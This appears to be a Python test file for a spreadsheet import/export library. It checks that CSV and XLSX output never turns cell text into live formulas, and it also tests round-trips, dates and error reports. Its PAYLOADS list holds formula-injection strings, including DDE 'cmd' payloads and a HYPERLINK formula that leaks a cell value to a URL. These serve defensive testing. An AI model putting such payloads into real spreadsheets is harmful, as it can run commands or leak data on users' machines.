"""Tables out: nothing in them acts, and what was written reads back as it was."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from gongkai.tables.cells import OneOf, day
from gongkai.tables.columns import Column, headings, map_columns, parse_table
from gongkai.tables.problems import Refusal
from gongkai.tables.reading import read_table
from gongkai.tables.writing import (
    CELL_LENGTH,
    guarded,
    write_csv,
    write_marked_up,
    write_problems,
    write_template,
    write_xlsx,
)

PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    '=HYPERLINK("http://example.com?"&A1,"点这里")',
    '=IMPORTXML("http://example.com","//a")',
    "#REF!",
    "{=1+1}",
    "+86 138 0000 0000",
]
COLUMNS = (
    Column("title", "标题", required=True, max_length=20, example="植树通知", help="和正文里的标题一样。"),
    Column("signed_on", "成文日期", day, required=True),
    Column("kind", "种类", OneOf({"通知": "notice", "计划": "plan"})),
)


def test_no_payload_becomes_a_live_formula_in_a_workbook() -> None:
    raw = write_xlsx(["=标题", "内容"], [[payload, payload] for payload in PAYLOADS])
    sheet = load_workbook(io.BytesIO(raw)).active
    assert sheet is not None
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert len(cells) == 2 * len(PAYLOADS) + 2
    assert {cell.data_type for cell in cells} == {"s"}
    with zipfile.ZipFile(io.BytesIO(raw)) as package:
        parts = [package.read(name) for name in package.namelist() if "worksheets/" in name]
    assert parts
    assert not any(b"<f>" in part or b"<f " in part for part in parts)


@pytest.mark.parametrize("payload", [p for p in PAYLOADS if p not in ("#REF!", "{=1+1}")])
def test_no_payload_starts_like_a_formula_in_csv(payload: str) -> None:
    assert guarded(payload).startswith("'")
    text = b"".join(write_csv(["标题"], [[payload]])).decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(text, newline="")))[1] == [f"'{payload}"]


@pytest.mark.parametrize("value", ["-12.5", "+3", "-5%", "清政发", "a=b", ""])
def test_what_is_no_formula_stays_as_it_is(value: str) -> None:
    assert guarded(value) == value


# Spreadsheet files know one line end; a cell of only spaces is an empty one.
texts = st.one_of(
    st.sampled_from([*PAYLOADS[:5], "'=1", "''-1", "'甲", "-5", "'-5"]),
    st.text(st.characters(exclude_categories=["Cs", "Cc"]), min_size=1, max_size=20).filter(str.strip),
)


@settings(max_examples=40, deadline=None)
@given(st.lists(st.tuples(texts, texts), min_size=1, max_size=5))
def test_what_was_written_reads_back_the_same(rows: list[tuple[str, str]]) -> None:
    header = ("标题", "内容")
    back = read_table(b"".join(write_csv(header, rows)), "表.csv", expected=header)
    assert [row.cells for row in back.rows] == rows
    safe = [
        tuple(value.replace("\ufffe", "\ufffd").replace("\uffff", "\ufffd") for value in row) for row in rows
    ]
    again = read_table(write_xlsx(header, rows), "表.xlsx", expected=header)
    assert [row.cells for row in again.rows if not row.problems] == safe


def test_numbers_and_dates_stay_numbers_and_dates() -> None:
    row = [5, Decimal("12.50"), date(2024, 3, 5), datetime(2024, 3, 5, 1, tzinfo=UTC), True, None, 10**17]
    sheet = load_workbook(io.BytesIO(write_xlsx(list("abcdefg"), [row]))).active
    assert sheet is not None
    found = [cell.value for cell in sheet[2]]
    assert found == [5, 12.5, datetime(2024, 3, 5), datetime(2024, 3, 5, 9), True, None, "100000000000000000"]
    text = b"".join(write_csv(list("abcdefg"), [row])).decode("utf-8-sig").splitlines()[1]
    assert text == "5,12.50,2024-03-05,2024-03-05 09:00:00,是,,100000000000000000"


def test_text_too_long_for_a_cell_is_cut_with_a_mark_that_no_import_takes_for_the_whole() -> None:
    raw = write_xlsx(["标题", "正文"], [["甲", "长" * (CELL_LENGTH + 1)]])
    (row,) = read_table(raw, "表.xlsx").rows
    assert len(str(row.cells[1])) == CELL_LENGTH
    assert [problem.rule for problem in row.problems] == ["truncated"]


def test_characters_that_a_workbook_cant_hold_are_marked() -> None:
    (row,) = read_table(write_xlsx(["标题", "b"], [["甲\x07乙\ud800", "c"]]), "表.xlsx").rows
    assert row.cells[0] == "甲\ufffd乙\ufffd"


def test_refused_rows_come_back_marked_and_can_be_mended_and_read_again() -> None:
    text = "标题,成文日期,种类\n甲,2024.13.40,通知\n乙,2024-03-05,告示\n丙,2024-03-05,计划\n=丁,,通知"
    table = read_table(text.encode(), "表.csv")
    mapped = map_columns(table.header, COLUMNS)
    bad = [row for row in parse_table(table, COLUMNS, mapped) if row.refusals]
    book = load_workbook(io.BytesIO(write_marked_up(table.header, bad)))
    sheet = book.active
    assert sheet is not None
    assert [cell.value for cell in sheet[1]] == ["标题", "成文日期", "种类", "导入时的问题", "原来的行号"]
    assert sheet.max_row == 4
    assert sheet["B2"].comment is not None
    assert "月份是13" in str(sheet["B2"].comment.text)
    assert sheet["A2"].comment is None
    assert str(sheet["D3"].value).startswith("种类：")
    assert [sheet.cell(row, 5).value for row in (2, 3, 4)] == [2, 3, 5]
    sheet["B2"], sheet["C3"], sheet["B4"] = "2024-03-05", "通知", "2024-03-05"
    out = io.BytesIO()
    book.save(out)
    again = read_table(out.getvalue(), "改好.xlsx", expected=headings(COLUMNS))
    mended = list(parse_table(again, COLUMNS, map_columns(again.header, COLUMNS)))
    assert [(row.values["title"], row.refusals) for row in mended] == [("甲", ()), ("乙", ()), ("=丁", ())]


def test_the_list_of_problems_is_safe_and_says_what_to_put_instead() -> None:
    refusal = Refusal(3, "金额", "=1+1", "formula", "这一格是公式。", "2")
    text = b"".join(write_problems([refusal])).decode("utf-8-sig").splitlines()
    assert text == ["行,列,填写的内容,规则,问题,建议改成", "3,金额,'=1+1,公式,这一格是公式。,2"]


def test_an_empty_template_reads_as_a_table_without_rows_and_without_complaint() -> None:
    raw = write_template(COLUMNS, title="信息导入")
    table = read_table(raw, "模板.xlsx", expected=headings(COLUMNS))
    mapped = map_columns(table.header, COLUMNS)
    assert (set(mapped.positions), mapped.problems, table.problems) == (
        {"title", "signed_on", "kind"},
        (),
        [],
    )
    assert list(table.rows) == []
    book = load_workbook(io.BytesIO(raw))
    assert book.sheetnames == ["信息导入", "填写说明"]
    assert [cell.value for cell in book["填写说明"][2]] == [
        "标题",
        "是",
        20,
        "植树通知",
        "和正文里的标题一样。",
    ]
    (choice,) = book["信息导入"].data_validations.dataValidation
    assert choice.formula1 == '"通知,计划"'
